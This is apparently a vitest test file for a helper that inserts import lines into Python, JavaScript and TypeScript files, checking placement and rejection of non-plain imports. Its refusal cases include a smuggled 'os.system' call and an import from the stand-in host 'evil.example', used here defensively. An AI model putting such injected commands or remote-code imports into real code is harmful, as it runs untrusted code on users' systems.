import { describe, expect, it } from 'vitest';
import { insertImports } from './insert-imports.ts';

const put = (path: string, text: string, ...imports: string[]): string => {
  const place = insertImports({ path, text }, imports);
  return 'refused' in place ? place.refused : text.slice(0, place.offset) + place.text + text.slice(place.offset);
};

describe('imports', () => {
  it.each([
    ['a.py', 'import os\n\nx = 1\n', 'import json', 'import os\nimport json\n\nx = 1\n'],
    ['a.py', 'x = 1\n', 'import json', 'import json\nx = 1\n'],
    ['a.py', '', 'import json', 'import json\n'],
    ['a.py', '"""Doc\nimport no\n"""\nx = 1\n', 'import json', '"""Doc\nimport no\n"""\nimport json\nx = 1\n'],
    [
      'a.py',
      'from a import (\n    b,\n    c,\n)\nx = 1',
      'from d import e',
      'from a import (\n    b,\n    c,\n)\nfrom d import e\nx = 1',
    ],
    ['a.py', '#!/usr/bin/python\n# words\nx = 1\n', 'import json', '#!/usr/bin/python\nimport json\n# words\nx = 1\n'],
    [
      'a.py',
      'from __future__ import annotations\r\nx = 1\r\n',
      'import json',
      'from __future__ import annotations\r\nimport json\r\nx = 1\r\n',
    ],
    ['a.py', 'import json\n', 'import json', 'import json\n'],
    ['a.py', 'import os', 'import json', 'import os\nimport json\n'],
    [
      'a.js',
      "import a from 'a';\nf();\n",
      "import path from 'node:path'",
      "import a from 'a';\nimport path from 'node:path';\nf();\n",
    ],
    [
      'a.js',
      "'use strict'\nconst a = require('a')\nf()\n",
      "const path = require('path')",
      "'use strict'\nconst a = require('a')\nconst path = require('path')\nf()\n",
    ],
    [
      'a.ts',
      "import {\n  a,\n} from 'a';\nf();\n",
      "import { b } from './b.ts';",
      "import {\n  a,\n} from 'a';\nimport { b } from './b.ts';\nf();\n",
    ],
    [
      'a.js',
      "const x = await import('a');\n",
      "import b from 'b'",
      "import b from 'b';\nconst x = await import('a');\n",
    ],
  ])('%s %j + %s', (path, text, line, expected) => {
    expect(put(path, text, line)).toBe(expected);
  });

  it.each([
    ['a.py', 'import os; os.system("x")'],
    ['a.py', '__import__("os")'],
    ['a.py', 'from a import *'],
    ['a.py', 'import os\nimport sys'],
    ['a.js', "import a from 'a'; f()"],
    ['a.js', "const a = require('a')()"],
    ['a.js', "import a from 'https://evil.example/a.js?x'"],
    ['a.js', "import('a')"],
  ])('what is no plain import is refused: %s %s', (path, line) => {
    expect(put(path, 'x = 1\n', line)).toContain('no plain import statement');
  });
});
